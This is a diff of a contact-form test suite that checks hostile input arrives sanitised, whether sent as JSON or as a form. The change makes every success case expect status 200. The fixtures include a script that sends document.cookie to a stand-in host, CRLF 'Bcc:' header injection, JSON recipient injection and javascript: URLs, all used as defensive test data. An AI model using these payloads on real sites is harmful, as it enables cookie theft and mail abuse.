@@ -21,9 +21,9 @@ const script = '<script>fetch("https://elsewhere.example/"+document.cookie)</scr
 const breaking = /[\p{Cc}\p{Zl}\p{Zp}]/u;
 
 describe.each([
-  ['JSON', postJson, 200],
-  ['a form', postForm, 303],
-])('as %s', (_, submit, success) => {
+  ['JSON', postJson],
+  ['a form', postForm],
+])('as %s', (_, submit) => {
   test.each([
     ['Damaris\r\nBcc: everyone@example.org', 'Damaris Bcc: everyone@example.org'],
     ['Damaris\nBcc: everyone@example.org', 'Damaris Bcc: everyone@example.org'],
@@ -45,7 +45,7 @@ describe.each([
     ['","recipient":"x@y.example","a":"', '","recipient":"x@y.example","a":"'],
   ])('the name %j arrives as the text %j', async (full_name, expected) => {
     const submitted = withToken({ ...damaris, full_name });
-    expect((await submit(site, submitted)).status).toBe(success);
+    expect((await submit(site, submitted)).status).toBe(200);
     const [message] = arrived(site);
     expect(message?.visitor_name).not.toMatch(breaking);
     expect(message).toMatchObject({
@@ -65,7 +65,7 @@ describe.each([
     ['<iframe srcdoc="&lt;script&gt;">', '<iframe srcdoc="&lt;script&gt;">'],
     ['javascript:alert(1)', 'javascript:alert(1)'],
   ])('the message %j arrives as the text %j', async (message, expected) => {
-    expect((await submit(site, withToken({ ...damaris, message }))).status).toBe(success);
+    expect((await submit(site, withToken({ ...damaris, message }))).status).toBe(200);
     expect(arrived(site)[0]?.visitor_message).toBe(expected);
   });
 
@@ -90,7 +90,7 @@ describe.each([
     ['email', 'damaris@example.org\r\n', 'visitor_email', 'damaris@example.org'],
     ['phone', '555\t123\t4567\r\n', 'visitor_phone', '555 123 4567'],
   ] as const)('the %s %j arrives in one line', async (field, value, arrives, expected) => {
-    expect((await submit(site, withToken({ ...damaris, [field]: value }))).status).toBe(success);
+    expect((await submit(site, withToken({ ...damaris, [field]: value }))).status).toBe(200);
     expect(arrived(site)[0]?.[arrives]).toBe(expected);
   });
 });
